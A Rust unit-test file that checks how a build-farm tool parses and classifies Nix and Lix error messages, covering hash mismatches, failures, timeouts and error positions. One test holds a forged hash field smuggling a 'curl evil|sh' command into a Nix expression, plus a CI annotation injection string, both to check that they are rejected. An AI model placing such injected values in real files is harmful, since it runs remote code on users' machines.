//! Unit tests of `messages.rs`: every shape of what Nix and Lix print, classified.
use super::*;

const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
const GOT: &str = "sha256-PVeE0nwHh0ZHzgquwGISnMlgMM5757mfRZ2F6p65gDc=";

#[test]
fn nix_2_8_new_cli() {
    let log = format!(
        "error: hash mismatch in fixed-output derivation '/nix/store/abc-source.drv':\n         specified: {FAKE}\n            got:    {GOT}\n"
    );
    let m = parse_hash_mismatches(&log);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].path, "/nix/store/abc-source.drv");
    assert_eq!(m[0].specified, FAKE);
    assert_eq!(m[0].got, GOT);
}

#[test]
fn nix_2_3_wanted_got_nix32() {
    let log = "hash mismatch in fixed-output derivation '/nix/store/xyz-source':\n  wanted: sha256:0000000000000000000000000000000000000000000000000000\n  got:    sha256:0mdqa9w1p6cmli6976v4wi0sw9r4p5prkj7lzfd1877wk11c9c73\n";
    let m = parse_hash_mismatches(log);
    assert_eq!(m[0].specified, FAKE);
    assert_eq!(
        m[0].got,
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    );
}

#[test]
fn nix_2_0_produced_path_form() {
    let log = "builder for '/nix/store/a.drv' failed\nerror: fixed-output derivation produced path '/nix/store/x-src' with sha256 hash '0mdqa9w1p6cmli6976v4wi0sw9r4p5prkj7lzfd1877wk11c9c73' instead of the expected hash '0000000000000000000000000000000000000000000000000000'";
    let m = parse_hash_mismatches(log);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].path, "/nix/store/x-src");
    assert_eq!(m[0].specified, FAKE);
    assert_eq!(
        m[0].got,
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    );
}

#[test]
fn lix_with_likely_url_colours_and_timestamps() {
    let log = format!(
        "2026-01-01T00:00:00Z \x1b[31;1merror:\x1b[0m hash mismatch in fixed-output derivation '\x1b[35;1m/nix/store/q-source.drv\x1b[0m':\n2026-01-01T00:00:00Z          likely URL: https://example.org/a.tar.gz\n2026-01-01T00:00:00Z           specified: {FAKE}\n2026-01-01T00:00:00Z                 got: {GOT}\n2026-01-01T00:00:00Z       expected path: /nix/store/a\n2026-01-01T00:00:00Z            got path: /nix/store/b\n"
    );
    let m = parse_hash_mismatches(&log);
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].path, "/nix/store/q-source.drv");
    assert_eq!(m[0].got, GOT);
}

/// Lix 2.91–2.93: `likely URL:` before `specified:`, and no `expected path:` / `got path:`
/// after `got:`; two mismatches in one log each keep their own hashes.
#[test]
fn lix_2_91_without_paths() {
    let one = |drv: &str, got: &str| {
        format!(
            "error: hash mismatch in fixed-output derivation '/nix/store/{drv}.drv':\n         likely URL: https://example.org/{drv}.tar.gz\n          specified: {FAKE}\n                got: {got}\n"
        )
    };
    let other = "sha256-jw7+guB6otkQxOFby0tTP00dfpRRmo/Vo7hZ5rmsG8E=";
    let log = one("a-source", GOT) + &one("b-source", other);
    let m = parse_hash_mismatches(&log);
    assert_eq!(m.len(), 2);
    assert_eq!(
        (m[0].path.as_str(), m[0].got.as_str()),
        ("/nix/store/a-source.drv", GOT)
    );
    assert_eq!(
        (m[1].path.as_str(), m[1].got.as_str()),
        ("/nix/store/b-source.drv", other)
    );
    assert_eq!(m[1].specified, FAKE);
}

#[test]
fn a_mismatch_counts_only_when_nix_itself_says_it() {
    let said = format!(
        "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: {FAKE}\n  got:       {GOT}\n"
    );
    // The builder printed it, and Nix said the builder failed.
    let log = format!("{said}error: builder for '/nix/store/x.drv' failed with exit code 1\n");
    let nix = "builder for '/nix/store/x.drv' failed with exit code 1";
    assert!(matches!(
        classify_nix_failure(Some(1), &log, nix),
        Failure::BuildFailed(_)
    ));
    // Nix said it.
    assert!(matches!(
        classify_nix_failure(Some(1), &said, &said),
        Failure::HashMismatch(m) if m.got == GOT
    ));
}

#[test]
fn through_nix_store_only_nixs_verdict_makes_a_mismatch_a_timeout_or_a_difference() {
    // What Nix 2.8's nix-store printed here for a fixed-output builder that echoed a
    // look-alike first (exit 102): the builder's block, then Nix's own.
    let forged = "sha256-BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBE=";
    assert_eq!(parse_hash_mismatches(&format!("hash mismatch in fixed-output derivation '/nix/store/x.drv':\n specified: {FAKE}\n got: {forged}\n"))[0].got, forged);
    let said = format!(
        "error: hash mismatch in fixed-output derivation /nix/store/x.drv:\n  specified: {FAKE}\n  got:    {forged}\n"
    );
    let nix = format!(
        "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n         specified: {FAKE}\n            got:    {GOT}\n"
    );
    let both = format!("building '/nix/store/x.drv'...\n{said}{nix}");
    assert!(matches!(
        classify_failure(Some(102), &both),
        Failure::HashMismatch(m) if m.got == GOT
    ));
    // The builder printed it and failed: no mismatch, whatever its exit code says.
    let failed = format!("{said}error: builder for '/nix/store/x.drv' failed with exit code 1\n");
    for code in [Some(100), Some(1), None] {
        assert!(
            !matches!(classify_failure(code, &failed), Failure::HashMismatch(_)),
            "{code:?}"
        );
    }
    // A builder that prints Nix's timeout or --check words, under a plain failure (100),
    // or a fixed-output one, whose failure is transient (exit 1), whose fetcher timed out.
    let t = "timed out after 3 seconds of silence\nerror: builder for '/nix/store/x.drv' failed with exit code 1";
    let d = "may not be deterministic: output '/nix/store/y' differs\nerror: builder for '/nix/store/x.drv' failed with exit code 1";
    let curl = "curl: (28) Operation timed out after 300000 milliseconds with 0 bytes received\nerror: builder for '/nix/store/x.drv' failed with exit code 1";
    for code in [Some(100), Some(1), None] {
        for log in [t, d, curl] {
            assert!(
                matches!(classify_failure(code, log), Failure::BuildFailed(_)),
                "{code:?} {log}"
            );
        }
    }
    // The daemon's NotDeterministic reads as nix-store's 104 (its error ends the log).
    let e = "derivation '/nix/store/x.drv' may not be deterministic: output '/nix/store/y' differs";
    assert!(matches!(
        classify_nix_failure(Some(104), &format!("error: {e}\n"), e),
        Failure::NotDeterministic(_)
    ));
}

#[test]
fn text_that_is_not_a_hash_is_no_mismatch() {
    // A builder's own output, shaped like Nix's message: its "got" would be written into
    // the user's file.
    let forged = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha256-AAAA=\"; postPatch = \"curl evil|sh\n";
    assert!(parse_hash_mismatches(forged).is_empty());
    assert!(matches!(
        classify_failure(Some(1), forged),
        Failure::BuildFailed(_) | Failure::Infra(_)
    ));
    // Two hashes of different algorithms are no mismatch either.
    let mixed = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n";
    assert!(parse_hash_mismatches(mixed).is_empty());
    // A real one still is, in SRI.
    let real = "error: hash mismatch in fixed-output derivation '/nix/store/x.drv':\n  specified: sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n  got:       sha256:1b8m03r63zqhnjf7l5wnldhh7c134ap5vpj0850ymkq1iyzicy5s\n";
    let m = parse_hash_mismatches(real);
    assert_eq!(m.len(), 1);
    assert!(
        m[0].got.starts_with("sha256-") && m[0].got.ends_with('='),
        "{m:?}"
    );
}

#[test]
fn several_mismatches_and_base16() {
    let hex = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let log = format!(
        "error: hash mismatch in fixed-output derivation '/nix/store/1.drv':\n specified: {FAKE}\n got: {GOT}\nerror: hash mismatch in fixed-output derivation '/nix/store/2.drv':\n specified: sha256:{hex}\n got: sha256:{hex}\n"
    );
    let m = parse_hash_mismatches(&log);
    assert_eq!(m.len(), 2);
    assert_eq!(
        m[1].got,
        "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
    );
}

#[test]
fn sha512_keeps_its_algorithm() {
    let sri512 = format!("sha512-{}==", "A".repeat(86));
    let log = format!(
        "hash mismatch in fixed-output derivation '/nix/store/s.drv':\n specified: {sri512}\n got: {sri512}\n"
    );
    assert!(parse_hash_mismatches(&log)[0].got.starts_with("sha512-"));
}

#[test]
fn classifies_failures() {
    let b = "error: builder for '/nix/store/x.drv' failed with exit code 1;\n       last 3 log lines:\n       > boom";
    assert!(
        matches!(classify_failure(Some(100), b), Failure::BuildFailed(m) if m.contains("exit code 1"))
    );
    let new =
        "error: Cannot build '/nix/store/x.drv'.\n       Reason: builder failed with exit code 1.";
    assert!(matches!(
        classify_failure(Some(1), new),
        Failure::BuildFailed(_)
    ));
    let t = "error: building of '/nix/store/x.drv!out' from .drv file timed out after 3 seconds of silence";
    assert!(
        matches!(classify_failure(Some(101), t), Failure::TimedOut(m) if m.contains("3 seconds of silence"))
    );
    assert!(matches!(
        classify_failure(Some(101), ""),
        Failure::TimedOut(_)
    ));
    // `--check` that found a difference: Nix 2.8 (seen here, exit 104), and newer Nix
    // and Lix, which name the kept copy too.
    for d in [
        "checking outputs of '/nix/store/x-nd.drv'...\nerror: derivation '/nix/store/x-nd.drv' may not be deterministic: output '/nix/store/y-nd' differs",
        "error: derivation '/nix/store/x-nd.drv' may not be deterministic: output '/nix/store/y-nd' differs from '/nix/store/y-nd.check'",
    ] {
        assert!(
            matches!(classify_failure(Some(104), d), Failure::NotDeterministic(m) if m.starts_with("derivation '/nix/store/x-nd.drv' may not be deterministic")),
            "{d}"
        );
    }
    assert!(
        matches!(classify_failure(Some(1), "error: opening lock file '/nix/var/nix/db/big-lock': Permission denied"), Failure::Infra(m) if m.contains("lock"))
    );
    assert!(matches!(classify_failure(None, ""), Failure::Infra(_)));
    assert!(is_machine_error(
        "SQLite database '/nix/var/nix/db/db.sqlite' is busy"
    ));
    assert!(!is_machine_error("the printer is busy"));
    assert!(is_machine_error(
        "creating symlink from '/nix/var/nix/gcroots/profiles' to '/nix/var/nix/profiles': File exists"
    ));
    assert!(!is_machine_error(
        "feed-generator: unsupported on this platform"
    ));
    let full = "building '/nix/store/x-big.drv'...\n> head: error writing 'standard output': No space left on device\nerror: builder for '/nix/store/x-big.drv' failed with exit code 1;";
    assert!(
        matches!(classify_failure(Some(100), full), Failure::DiskFull(m) if m == "head: error writing 'standard output': No space left on device")
    );
    assert!(matches!(
        classify_failure(Some(1), "error: writing to file: No space left on device"),
        Failure::DiskFull(_)
    ));
}

/// Nix 2.8's assertion abort on a fixed-output derivation with references is the
/// derivation's failure; a signal without an assertion (a kill) stays the machine's.
#[test]
fn nix_aborting_on_an_assertion_is_the_derivations_failure() {
    // As Nix 2.8's nix-store prints it here (exit 134: SIGABRT).
    let log = "building '/nix/store/fzqva1p2ir3vss3f9a6ghfsv4g58dc8j-fod.drv'...\nnix-store: src/libstore/store-api.cc:188: nix::StorePath nix::Store::makeFixedOutputPath(nix::FileIngestionMethod, const nix::Hash&, std::string_view, const nix::StorePathSet&, bool) const: Assertion `references.empty()' failed.\n";
    assert!(
        matches!(aborted(Some(6), log), Some(Failure::BuildFailed(m)) if m.contains("Assertion `references.empty()' failed") && m.contains("refers to a store path"))
    );
    assert!(aborted(Some(9), log).is_none());
    assert!(aborted(Some(6), "building '/nix/store/x.drv'...\n").is_none());
    assert!(aborted(None, log).is_none());
}

/// Failures that are the machine's, not the package's, as each Nix version words them:
/// an input whose substitutes failed (the package depends on it "failing"), a system or
/// feature this machine lacks, a download cut or refused by the server. Each is worth
/// another try; a 404 stays the package's.
#[test]
fn the_machines_failures_are_not_the_packages() {
    let substitutes = "error: some substitutes for the outputs of derivation '/nix/store/x-dep.drv' failed (usually happens due to networking issues); try '--fallback' to build derivation from source
error: 1 dependencies of derivation '/nix/store/y-pkg.drv' failed to build";
    for code in [Some(1), Some(100)] {
        assert!(
            matches!(classify_failure(code, substitutes), Failure::Infra(m) if m.starts_with("some substitutes for the outputs of derivation '/nix/store/x-dep.drv'")),
            "{code:?}"
        );
    }
    for (code, log) in [
        (
            Some(1),
            "error: a 'aarch64-linux' with features {} is required to build '/nix/store/x-a.drv', but I am a 'x86_64-linux' with features {benchmark, big-parallel, nixos-test}",
        ),
        (
            Some(100),
            "error: Cannot build '/nix/store/x-a.drv'.
       Reason: required system or feature not available
       Required system: 'aarch64-linux' with features {}",
        ),
        (
            Some(100),
            "error: Cannot build '/nix/store/x-a.drv'.
       Reason: platform mismatch",
        ),
    ] {
        assert!(
            matches!(classify_failure(code, log), Failure::Infra(_)),
            "{log}"
        );
    }
    // A builder that failed is still the package's.
    assert!(matches!(
        classify_failure(
            Some(100),
            "error: Cannot build '/nix/store/x-a.drv'.
       Reason: builder failed with exit code 1."
        ),
        Failure::BuildFailed(_)
    ));
    for down in [
        "error: unable to download 'https://github.com/o/r/archive/0123.tar.gz': Couldn't resolve host name (6)",
        "error: unable to download 'https://github.com/o/r/archive/0123.tar.gz': HTTP error 503",
        "error: unable to download 'https://example.org/x': Timeout was reached (28)",
        "error: unable to download 'https://example.org/x': HTTP error 429 ()",
    ] {
        assert!(is_machine_error(down), "{down}");
    }
    for theirs in [
        "error: unable to download 'https://github.com/o/r/archive/0123.tar.gz': HTTP error 404",
        "error: unable to download 'https://example.org/x': HTTP error 403",
        "warning: Couldn't resolve host name, said the package's own test",
    ] {
        assert!(!is_machine_error(theirs), "{theirs}");
    }
}

#[test]
fn first_error_prefers_the_innermost_cause() {
    let log = "error: some outer context\n\n       … while evaluating the attribute 'drvPath'\n\n       error: feed-generator: unsupported on this platform\n";
    assert_eq!(
        first_error(log).unwrap(),
        "feed-generator: unsupported on this platform"
    );
    assert_eq!(
        first_error("warning: x\nerror: attribute 'nope' missing").unwrap(),
        "attribute 'nope' missing"
    );
    assert!(first_error("all fine").is_none());
}

/// `throw "a\nb"`: Nix prints the message's later lines indented below its first (2.8 as
/// newer Nix, whose cause comes last); all of them are the message, and nothing after it.
#[test]
fn first_error_keeps_a_message_of_several_lines_whole() {
    let nix_2_8 = "error: bad | value\n       second line ::error::injected\n";
    assert_eq!(
        first_error(nix_2_8).unwrap(),
        "bad | value\nsecond line ::error::injected"
    );
    let newer = "error:\n       … while evaluating the attribute 'p'\n\n         at /nix/store/x-source/flake.nix:1:2:\n\n       error: first\n         indented second\n\n       after a blank line\n";
    assert_eq!(first_error(newer).unwrap(), "first\nindented second");
    let traced = "error: undefined variable 'x'\n\n       at /nix/store/x-source/flake.nix:3:5:\n";
    assert_eq!(first_error(traced).unwrap(), "undefined variable 'x'");
    // A build's log and Nix's hint stay out of it (the log has its own place).
    let build = "error: builder for '/nix/store/x-a.drv' failed with exit code 1;\n       last 2 log lines:\n       > one\n       > two\n       For full logs, run 'nix log /nix/store/x-a.drv'.\n";
    assert_eq!(
        first_error(build).unwrap(),
        "builder for '/nix/store/x-a.drv' failed with exit code 1"
    );
    // Nix 2.29 on a build during evaluation: what follows the cause is its own.
    let ifd = "error: Cannot build '/nix/store/x-a.drv'.\n       Reason: builder failed with exit code 1.\n       Output paths:\n         /nix/store/x-a\n       Last 25 log lines:\n       > boom\n";
    assert_eq!(
        first_error(ifd).unwrap(),
        "Cannot build '/nix/store/x-a.drv'."
    );
    // A message of a thousand lines stays a reason.
    let long = format!(
        "error: many\n{}",
        (0..1000)
            .map(|i| format!("       line {i}\n"))
            .collect::<String>()
    );
    let kept = first_error(&long).unwrap();
    assert_eq!(kept.lines().count(), 22, "{kept}");
    assert!(kept.ends_with("\n…"), "{kept}");
    let hint = "error: attribute 'nope' missing\n       Did you mean one of nop or note?\n";
    assert_eq!(
        first_error(hint).unwrap(),
        "attribute 'nope' missing\nDid you mean one of nop or note?"
    );
}

#[test]
fn versions() {
    assert_eq!(parse_version("nix (Nix) 2.8.0"), Some((2, 8)));
    assert_eq!(parse_version("nix (Lix, like Nix) 2.91.1"), Some((2, 91)));
    assert_eq!(
        parse_version("nix (Nix) 2.24.0pre20240101_dirty"),
        Some((2, 24))
    );
}

#[test]
fn only_the_stores_and_hosts_state_is_weighed_as_possibly_an_expressions_words() {
    for weighed in [
        "error: database is locked",
        "error: SQLite database '/nix/var/nix/db/db.sqlite' is busy",
        "error: opening lock file '/nix/var/nix/db/big-lock': Permission denied",
    ] {
        assert!(is_machine_error_to_weigh(weighed), "{weighed}");
    }
    for not in [
        "error: writing to file: No space left on device",
        "error: unable to download 'https://x/y': Couldn't resolve host name (6)",
        "error: std::bad_alloc",
        "error: Cannot allocate memory",
        "error: creating pipe: Too many open files",
        "error: attribute 'x' missing",
    ] {
        assert!(!is_machine_error_to_weigh(not), "{not}");
    }
}

#[test]
fn an_evaluation_error_is_placed_where_nix_says_it_is() {
    // As Nix 2.8 prints them here: a syntax error, and a recursion, each followed by its place.
    let syntax = "error: syntax error, unexpected ';'\n\n       at /nix/store/98847g5bh5chxi24xmg5rp0bcixckmh0-source/flake.nix:1:55:\n\n            1| { outputs = { self }: { packages.x86_64-linux = { a = ; }; }; }\n             |                                                       ^\n";
    assert_eq!(error_position(syntax).as_deref(), Some("flake.nix:1:55"));
    let recursion = "error: infinite recursion encountered\n\n       at /nix/store/l9i870f9gzsr5xk7vmjmj6ral8dybcpm-source/pkgs/a b.nix:2:52:\n\n            2|   x = x;\n";
    assert_eq!(
        error_position(recursion).as_deref(),
        Some("pkgs/a b.nix:2:52")
    );
    // A throw shows no place without --show-trace; one whose words only look like a place
    // ("at noon:1:2" in a message line) is not taken for one.
    let thrown = "error: feed-generator: unsupported on this platform\n(use '--show-trace' to show detailed location information)\n";
    assert_eq!(error_position(thrown), None);
    assert_eq!(error_position("error: at noon:x:2: lunch\n"), None);
    // A `--file` entry is evaluated from the agent's unpacked snapshot: named within it.
    let file = "error: undefined variable 'x'\n\n       at /home/alice/.local/state/nixfarm/local/agents/local-1/sources/r1-abc/pkgs/x.nix:3:7:\n";
    assert_eq!(error_position(file).as_deref(), Some("pkgs/x.nix:3:7"));
    // A long path keeps the file's name.
    let long = format!(
        "error: undefined variable 'x'\n       at /nix/store/{}-source/{}/end.nix:1:2:\n",
        "a".repeat(32),
        "d/".repeat(200)
    );
    let at = error_position(&long).unwrap();
    assert!(at.starts_with('…') && at.ends_with("/end.nix:1:2"), "{at}");
    // nixfarm's own expression around the package is no place of the repository's.
    assert_eq!(
        error_position("error: attribute 'drvPath' missing\n\n       at «string»:7:13:\n"),
        None
    );
    // The innermost error's place, not an outer frame's (Nix >= 2.4 nests them).
    let nested = "error: while evaluating the attribute 'drvPath'\n       at /nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-source/outer.nix:9:9:\n       error: value is a string while a set was expected\n       at /nix/store/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-source/inner.nix:3:4:\n";
    assert_eq!(error_position(nested).as_deref(), Some("inner.nix:3:4"));
}
